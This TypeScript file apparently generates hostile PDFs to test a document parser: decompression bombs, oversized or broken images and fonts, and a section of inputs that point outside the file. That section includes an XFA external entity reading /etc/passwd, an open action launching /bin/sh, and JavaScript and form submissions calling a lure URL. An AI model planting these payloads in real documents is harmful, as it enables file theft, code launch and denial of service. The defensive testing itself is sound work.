import { deflateSync } from 'node:zlib';
import type { HostileFile, Lure } from './hostile-file.ts';
import { zlibBomb } from './inflating.ts';
import { makePdf, onePage, PDF_LINE, type PdfPart } from './make-pdf.ts';

/** PDFs whose streams inflate, point out of the file, or hold more than a page can. */
export function pdfContents(lure: Lure): HostileFile[] {
  return [...bombs(), ...crowdedPages(), ...pictures(), ...fonts(), ...pointingOut(lure)];
}

function pdf(what: string, make: () => PdfPart[], more: Partial<HostileFile> = {}): HostileFile {
  return { name: `${what}.pdf`, group: 'PDF', make: () => makePdf(make()), ...more };
}

const FLATE = '/Filter /FlateDecode';

function bombs(): HostileFile[] {
  const once = (mib: number) => ({ entries: FLATE, content: zlibBomb(mib) });
  const thrice = (): PdfPart => ({
    entries: '/Filter [/FlateDecode /FlateDecode /FlateDecode]',
    content: deflateSync(deflateSync(zlibBomb(1024))),
  });
  const lengths = (): PdfPart => ({
    entries: '/Filter [/ASCIIHexDecode /RunLengthDecode]',
    content: '81 20 '.repeat(200_000),
  });
  const lzw = (): PdfPart => ({ entries: '/Filter /LZWDecode', content: Buffer.alloc(1_000_000, 0x80) });
  const many = (): PdfPart[] => {
    const bomb = zlibBomb(64);
    return onePage(undefined, {
      page: `/Contents [${Array.from({ length: 60 }, (_, index) => `${index + 6} 0 R`).join(' ')}]`,
      parts: Array.from({ length: 60 }, () => ({ entries: FLATE, content: bomb })),
    });
  };
  return [
    pdf('64 MiB of blanks', () => onePage(once(64))),
    pdf('1 GiB of blanks', () => onePage(once(1024)), { quick: false }),
    pdf('bomb packed three times', () => onePage(thrice()), { quick: false }),
    pdf('sixty bombs on a page', many, { quick: false }),
    pdf('run lengths in hex', () => onePage(lengths())),
    pdf('rubbish as LZW', () => onePage(lzw())),
    pdf(
      'bomb as metadata',
      () =>
        onePage(undefined, {
          catalogue: '/Metadata 6 0 R',
          parts: [{ entries: `/Type /Metadata /Subtype /XML ${FLATE}`, content: zlibBomb(512) }],
        }),
      { quick: false },
    ),
    pdf(
      'bomb as attachment',
      () =>
        onePage(undefined, {
          catalogue: '/Names << /EmbeddedFiles << /Names [(a.pdf) 6 0 R] >> >>',
          parts: [
            '<< /Type /Filespec /F (../../a.pdf) /EF << /F 7 0 R >> >>',
            { entries: `/Type /EmbeddedFile ${FLATE}`, content: zlibBomb(1024) },
          ],
        }),
      { quick: false },
    ),
  ];
}

function crowdedPages(): HostileFile[] {
  const text = (words: string, times: number): PdfPart => ({
    entries: FLATE,
    content: deflateSync(Buffer.from(`BT /F1 12 Tf 72 700 Td ${`(${words}) Tj `.repeat(times)} ET`)),
  });
  const scattered = (count: number): PdfPart => ({
    entries: FLATE,
    content: deflateSync(
      Buffer.from(
        Array.from(
          { length: count },
          (_, index) => `BT /F1 1 Tf ${(index * 7) % 600} ${(index * 13) % 780} Td (a) Tj ET`,
        ).join('\n'),
      ),
    ),
  });
  const ruled = (count: number): PdfPart => ({
    entries: FLATE,
    content: deflateSync(
      Buffer.from(
        `${Array.from({ length: count }, (_, index) => `${index % 600} 0 m ${index % 600} 792 l S 0 ${index % 790} m 612 ${index % 790} l S`).join('\n')} ${PDF_LINE}`,
      ),
    ),
  });
  return [
    pdf('two million letters at one place', () => onePage(text('aaaaaaaaaaaaaaaaaaaa', 100_000)), {
      quick: false,
    }),
    pdf('100000 letters scattered', () => onePage(scattered(100_000)), { quick: false }),
    pdf('10000 letters scattered', () => onePage(scattered(10_000))),
    pdf('100000 ruled lines', () => onePage(ruled(100_000)), { quick: false }),
    pdf('5000 ruled lines', () => onePage(ruled(5000))),
    pdf('two hundred thousand brackets', () => onePage(text('\\(\\(\\(\\(\\(\\(\\(\\(', 25_000)), {
      quick: false,
    }),
  ];
}

function pictures(): HostileFile[] {
  const draw: PdfPart = { entries: '', content: 'q 612 0 0 792 0 0 cm /X1 Do Q' };
  const picture = (entries: string, content: string | Uint8Array) => () =>
    onePage(draw, {
      resources: '/XObject << /X1 6 0 R >>',
      parts: [{ entries: `/Type /XObject /Subtype /Image ${entries}`, content }],
    });
  const grey = '/ColorSpace /DeviceGray /BitsPerComponent 8';
  return [
    pdf(
      'picture of 100000 by 100000',
      picture(`/Width 100000 /Height 100000 ${grey} ${FLATE}`, zlibBomb(16)),
      { quick: false },
    ),
    pdf('picture of minus one', picture(`/Width -1 /Height -1 ${grey}`, 'a')),
    pdf('picture of two thousand million', picture(`/Width 2147483647 /Height 2147483647 ${grey}`, 'a')),
    pdf(
      'broken JPEG',
      picture(
        `/Width 9000 /Height 9000 ${grey} /Filter /DCTDecode`,
        Buffer.from('ffd8ffc0001108ffffffff03011100', 'hex'),
      ),
    ),
    pdf('broken JPX', picture('/Width 9 /Height 9 /Filter /JPXDecode', Buffer.alloc(5000, 0xff))),
    pdf(
      'broken JBIG2',
      picture(`/Width 9000 /Height 9000 ${grey} /Filter /JBIG2Decode`, Buffer.alloc(5000, 0x30)),
    ),
    pdf(
      'broken fax',
      picture(
        '/Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 >>',
        Buffer.alloc(9000, 0xaa),
      ),
      { quick: false },
    ),
    pdf('mask of itself', picture(`/Width 9 /Height 9 ${grey} /SMask 6 0 R`, Buffer.alloc(81))),
  ];
}

function fonts(): HostileFile[] {
  const mapped = (map: string) => () =>
    onePage(undefined, {
      page: '/Resources << /Font << /F1 6 0 R >> >>',
      parts: [
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 7 0 R >>',
        { entries: '', content: map },
      ],
    });
  const map = (rows: string) =>
    `/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <FF> endcodespacerange ${rows} endcmap end`;
  const embedded = (kind: string, content: Uint8Array) => () =>
    onePage(undefined, {
      page: '/Resources << /Font << /F1 6 0 R >> >>',
      parts: [
        '<< /Type /Font /Subtype /TrueType /BaseFont /Odd /FontDescriptor 7 0 R >>',
        `<< /Type /FontDescriptor /FontName /Odd /${kind} 8 0 R >>`,
        { entries: '', content },
      ],
    });
  return [
    pdf('map of every code', mapped(map('1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange'))),
    pdf('map to a long word', mapped(map(`1 beginbfchar <54> <${'0041'.repeat(100_000)}> endbfchar`))),
    pdf(
      'map to controls and halves',
      mapped(map('3 beginbfchar <54> <0000> <68> <D800> <65> <202E> endbfchar')),
    ),
    pdf('map that never ends', mapped('begincmap 999999999 beginbfchar <00>')),
    pdf(
      'broken TrueType',
      embedded(
        'FontFile2',
        Buffer.concat([Buffer.from('00010000ffff0010', 'hex'), Buffer.alloc(4000, 0xff)]),
      ),
    ),
    pdf('broken Type 1', embedded('FontFile', Buffer.from(`%!PS-AdobeFont-1.0\n${'{ '.repeat(100_000)}`))),
    pdf('broken CFF', embedded('FontFile3', Buffer.alloc(4000, 0x1d))),
  ];
}

/** Actions and files outside: none may be followed. */
function pointingOut({ url }: Lure): HostileFile[] {
  const neverSays = /root:.*:0:0/;
  const picture = {
    entries: `/Type /XObject /Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (${url}/picture) >>`,
    content: '',
  };
  const outside = { entries: '/F (/etc/passwd)', content: '' };
  const xfa = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "${url}/xfa">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&a;&b;</xdp:xdp>`;
  return [
    pdf('content from another file', () => onePage(outside), { neverSays }),
    pdf(
      'picture from a server',
      () =>
        onePage(
          { entries: '', content: '/X1 Do' },
          { resources: '/XObject << /X1 6 0 R >>', parts: [picture] },
        ),
      { neverSays },
    ),
    pdf(
      'actions on opening',
      () =>
        onePage(undefined, {
          catalogue: `/OpenAction << /S /URI /URI (${url}/uri) /Next << /S /Launch /F (/bin/sh) /Next << /S /JavaScript /JS (app.launchURL\\('${url}/js'\\); while\\(true\\){}) >> >> >>`,
          page: `/AA << /O << /S /SubmitForm /F << /FS /URL /F (${url}/form) >> >> >>`,
        }),
      { neverSays },
    ),
    pdf(
      'form with outside entities',
      () =>
        onePage(undefined, {
          catalogue: '/AcroForm << /Fields [] /XFA 6 0 R >>',
          parts: [{ entries: '', content: xfa }],
        }),
      { neverSays },
    ),
  ];
}
